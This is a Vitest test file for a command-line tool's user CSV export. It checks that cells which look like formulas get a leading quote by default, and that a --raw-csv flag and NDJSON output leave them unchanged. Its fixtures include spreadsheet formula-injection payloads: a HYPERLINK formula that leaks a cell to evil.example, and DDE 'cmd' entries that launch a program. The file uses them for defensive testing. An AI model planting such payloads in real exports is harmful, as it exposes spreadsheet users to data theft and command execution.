import { mkdtempSync, readFileSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import * as Csv from "../../core/src/csv.ts"
import { cli, parseCsv, serve, type Served } from "./helpers.ts"

// Cells a spreadsheet would run as formulas, planted in users' names.
const FORMULAS = [
  `=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`,
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
]
const HARMLESS = ["Ann", "O'Brien", "a=b", "x-1", "", "'already quoted"]

let served: Served
let dir: string

beforeAll(async () => {
  served = await serve({ seed: 5, users: 40 })
  const users = served.fake.users
  FORMULAS.forEach((text, i) => {
    users[i]!.firstName = text
  })
  HARMLESS.forEach((text, i) => {
    users[FORMULAS.length + i]!.lastName = text
  })
  dir = mkdtempSync(join(tmpdir(), "quantive-cli-"))
})

afterAll(async () => {
  await served.close()
  rmSync(dir, { recursive: true, force: true })
})

const exportCsv = async (extra: ReadonlyArray<string>) => {
  const out = join(dir, `users-${extra.join("")}.csv`)
  const result = await cli(["users", "export", "--fields", "firstName,lastName", "--out", out, ...extra], {
    env: served.env,
  })
  expect(result.stderr).toBe("")
  expect(result.code).toBe(0)
  const [header, ...rows] = parseCsv(readFileSync(out, "utf8"))
  expect(header).toEqual(["id", "firstName", "lastName"])
  return new Map(rows.map((row) => [row[0]!, row]))
}

describe("CSV formula cells", () => {
  it("neutralizes a cell starting with =, +, -, @, tab or CR with a leading quote, and nothing else", () => {
    for (const text of FORMULAS) expect(Csv.neutralize(text)).toBe(`'${text}`)
    for (const text of HARMLESS) expect(Csv.neutralize(text)).toBe(text)
  })

  it("exports formula-like names neutralized by default", async () => {
    const rows = await exportCsv([])
    const users = served.fake.users
    FORMULAS.forEach((text, i) => expect(rows.get(users[i]!.id)![1]).toBe(`'${text}`))
    HARMLESS.forEach((text, i) => expect(rows.get(users[FORMULAS.length + i]!.id)![2]).toBe(text))
    // No cell of the file starts with a formula character.
    for (const row of rows.values()) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  it("writes the cells as they are with --raw-csv", async () => {
    const rows = await exportCsv(["--raw-csv"])
    const users = served.fake.users
    FORMULAS.forEach((text, i) => expect(rows.get(users[i]!.id)![1]).toBe(text))
    HARMLESS.forEach((text, i) => expect(rows.get(users[FORMULAS.length + i]!.id)![2]).toBe(text))
  })

  it("leaves NDJSON exact", async () => {
    const result = await cli(["users", "export", "--format", "ndjson", "--fields", "firstName"], { env: served.env })
    expect(result.code).toBe(0)
    const names = new Map(
      result.stdout.trimEnd().split("\n").map((line) => JSON.parse(line) as { id: string; firstName?: string }).map((
        u,
      ) => [u.id, u.firstName]),
    )
    FORMULAS.forEach((text, i) => expect(names.get(served.fake.users[i]!.id)).toBe(text))
  })
})
